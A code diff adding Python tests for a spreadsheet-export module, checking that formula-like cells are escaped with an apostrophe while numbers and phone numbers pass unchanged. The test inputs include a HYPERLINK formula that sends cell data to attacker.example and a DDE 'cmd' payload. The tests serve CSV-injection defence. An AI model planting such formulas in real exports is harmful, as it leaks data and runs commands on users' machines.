@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import datetime
 import io
 import json
@@ -95,3 +96,20 @@ def test_the_data_package_refuses_a_csv_that_breaks_a_field_constraint() -> None
     assert spreadsheet.checked(text, package) == text
     with pytest.raises(ValueError, match="constraint"):
         spreadsheet.checked(text.replace(",GB,", ",UK,", 1), package)
+
+
+def test_a_cell_that_starts_as_a_formula_is_text_but_numbers_and_phone_numbers_stay_as_written() -> None:
+    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
+    for written in (formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "-"):
+        assert spreadsheet.safe_cell(written) == "'" + written
+    for written in ("-2", "+2", "2.5", "-2,5", "+44 20 7946 0000", "+44 (0)20 7946 0000", "Caring Dads", "", "2026-01-15"):
+        assert spreadsheet.safe_cell(written) == written
+
+
+def test_a_programme_named_as_a_formula_reaches_the_csv_as_text() -> None:
+    """A name the record allows (“=HYPERLINK(…)” holds no markup) opens in a spreadsheet as the words, not a link that leaks the sheet."""
+    view = fixture_views()[0]
+    formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
+    programme = view.programme.model_copy(update={"name": view.programme.name.model_copy(update={"en": formula})})
+    table = rows(spreadsheet.programmes_csv([dataclasses.replace(view, programme=programme)], BASE_URL))
+    assert table[0]["programme"] == "'" + formula
